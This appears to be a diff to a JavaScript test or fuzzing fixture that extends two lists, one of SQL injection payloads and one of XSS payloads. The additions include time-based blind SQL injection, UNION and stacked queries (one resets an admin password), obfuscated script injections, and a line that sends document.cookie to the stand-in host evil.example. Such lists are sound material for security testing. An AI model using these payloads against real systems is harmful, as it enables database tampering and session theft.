@@ -118,6 +118,36 @@ if(now()=sysdate(),sleep(15),0)
 a' or 1=1 limit 1--
 x'; COPY users TO '/tmp/out'--
 1;DECLARE @x varchar(99);SET @x=0x41;EXEC(@x)
+' or 3=3 #
+' or (1)=(1)--
+test' or 'ab'='a'+'b
+1;select version()--
+5' and sleep(3)='
+') or sleep(5)='
+" or sleep(5)#
+1 or sleep(5)#
+" and benchmark(10000000,MD5(1))#
+hi' or 'a'='a
+hi") or ("a"="a
+' or 1=1 or ''='
+x' or 1=1 or 'x'='y
+'/**/and/**/substring(password,1,1)='a
+' and 'x'='x' union select 1,2,3 from users where '1'='1
+99999999 union select 1,2,database()
+0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z
+'; exec sp_configure 'show advanced options', 1--
+';insert into log values('x');--
+1' waitfor delay '0:0:10'--
+(SELECT 4567 FROM PG_SLEEP(5))
+' UNION SELECT sum(columnname) from tablename --
+') union select * from information_schema.tables;
+' or pg_sleep(5)--
+1) and 1=1 and (2=2
+' AnD 5=5 -- -
+1%' and '%'='
+-1 or 1=1 limit 1,1
+1 and row(1,1)>(select count(*),concat(version(),0x3a) x from t group by x limit 1)
+'; alter user admin with password 'x';--
 `
   .split('\n')
   .filter((line) => line !== '');
@@ -224,6 +254,40 @@ onload=alert(1)
 <p/onpointerover=prompt(1)>
 <keygen autofocus onfocus=alert(1)>
 <xss onafterscriptexecute=alert(1)><script>1</script>
+<iframe onload=alert(1)>
+<img src onerror=confirm(1)>
+<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>
+<button onclick="alert(1)">x</button>
+<a onmouseenter=alert(1)>x
+<object type="text/html" data="data:text/html,<script>alert(1)</script>">
+<script/random>alert(1)</script>
+<script>eval('al'+'ert(1)')</script>
+"/><svg onload=alert(1)>
+'"><img src=x onerror=alert(1)>
+<input type="image" src="x" onerror="alert(1)">
+<frameset onload=alert(1)>
+<style onload=alert(1)></style>
+<video poster=javascript:alert(1)//></video>
+<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
+<a href="jav&#x09;ascript:alert(1)">x</a>
+<a href=javas&#99;ript:alert(1)>
+<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
+<link rel=stylesheet href=//evil.example/x.css>
+<div style="behavior:url(x.htc)">
+<body background="javascript:alert(1)">
+<img dynsrc="javascript:alert(1)">
+" onclick=alert(1)//
+'onmouseover='alert(1)
+</textarea><script>alert(1)</script>
+</title><svg/onload=confirm(1)>
+\x3cscript\x3ealert(1)\x3c/script\x3e
+\u003cimg src=x onerror=alert(1)\u003e
+%3Csvg%20onload%3Dalert(1)%3E
+{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}
+${'$'}{alert(1)}
+javascript:confirm(document.cookie)
+';fetch('//evil.example?c='+document.cookie);//
+"><a href="javascript:alert(1)">x
 `
   .split('\n')
   .filter((line) => line !== '');
